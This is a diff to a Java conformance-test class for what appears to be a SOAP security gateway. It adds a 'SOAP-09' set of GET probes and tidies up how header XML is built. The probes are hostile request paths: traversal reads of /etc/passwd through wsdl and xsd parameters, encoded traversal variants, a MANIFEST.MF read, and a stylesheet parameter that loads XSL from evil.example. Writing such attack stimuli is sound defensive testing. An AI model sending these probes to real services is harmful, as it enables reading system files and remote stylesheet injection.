@@ -3,6 +3,7 @@ package jukigate.conformance.attack;
 import static java.util.Map.entry;
 import static jukigate.conformance.attack.Splice.after;
 import static jukigate.conformance.attack.Splice.drafted;
+import static jukigate.conformance.attack.Splice.http;
 import static jukigate.conformance.attack.Splice.insider;
 import static jukigate.conformance.attack.Splice.replace;
 import static jukigate.conformance.attack.Splice.text;
@@ -23,6 +24,7 @@ final class ScanStimuli {
   static Map<String, List<Variant>> all() {
     return Map.ofEntries(
         entry("SOAP-08", encodings()),
+        entry("SOAP-09", scans()),
         entry(
             "SOAP-11",
             List.of(
@@ -69,6 +71,24 @@ final class ScanStimuli {
   }
 
   private static final String LOOP = "<u:record id=\"r\" href=\"#r\"></u:record>";
+
+  private static List<Variant> scans() {
+    return Stream.of(
+            "/identity-update/v1?wsdl=../../../../etc/passwd",
+            "/identity-update/v1?xsd=../../../../etc/passwd",
+            "/identity-update/v1?xsd=..%2f..%2f..%2fetc%2fpasswd",
+            "/identity-update/v1?xsd=META-INF/MANIFEST.MF",
+            "/identity-update/v1?_wadl",
+            "/identity-update/v1?wsdl&stylesheet=http://evil.example/x.xsl",
+            "/identity-update/v1;jsessionid=1?wsdl",
+            "/identity-update/%2e%2e/identity-update/v1?wsdl",
+            "/identity-update?wsdl",
+            "/?wsdl",
+            "/services/?formatted=true",
+            "/identity-update/v1/../v1?wsdl")
+        .map(path -> http(path, it -> it.method("GET").target(path)))
+        .toList();
+  }
 
   private static Letter fault(Letter letter) {
     return letter
@@ -149,12 +169,15 @@ final class ScanStimuli {
 
   private static List<Variant> header(String name, String namespace, String element) {
     return List.of(
-        after(name, HEADER, "<x:%s xmlns:x=\"%s\"></x:%s>".formatted(element, namespace, element)),
+        after(name, HEADER, block(namespace, element, "")),
         after(
             name + "-must-understand",
             HEADER,
-            "<x:%s xmlns:x=\"%s\" soap:mustUnderstand=\"1\"></x:%s>"
-                .formatted(element, namespace, element)));
+            block(namespace, element, " soap:mustUnderstand=\"1\"")));
+  }
+
+  private static String block(String namespace, String element, String attribute) {
+    return "<x:" + element + " xmlns:x=\"" + namespace + "\"" + attribute + "></x:" + element + ">";
   }
 
   /** Signed rightly, and with the same words in the SOAPAction. */
